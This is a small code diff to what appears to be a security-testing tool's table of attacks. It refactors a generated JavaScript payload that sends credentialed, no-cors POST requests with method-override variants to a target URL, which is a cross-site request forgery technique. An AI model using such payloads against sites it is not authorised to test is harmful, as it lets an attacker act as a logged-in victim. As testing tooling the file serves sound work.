@@ -81,7 +81,8 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       `(async () => {
         const ways = ${JSON.stringify(OVERRIDES)}
         for (const way of ways) {
-          await fetch(${JSON.stringify(url)} + way, { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }).catch(() => {})
+          const request = { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }
+          await fetch(${JSON.stringify(url)} + way, request).catch(() => {})
         }
       })()`,
   },
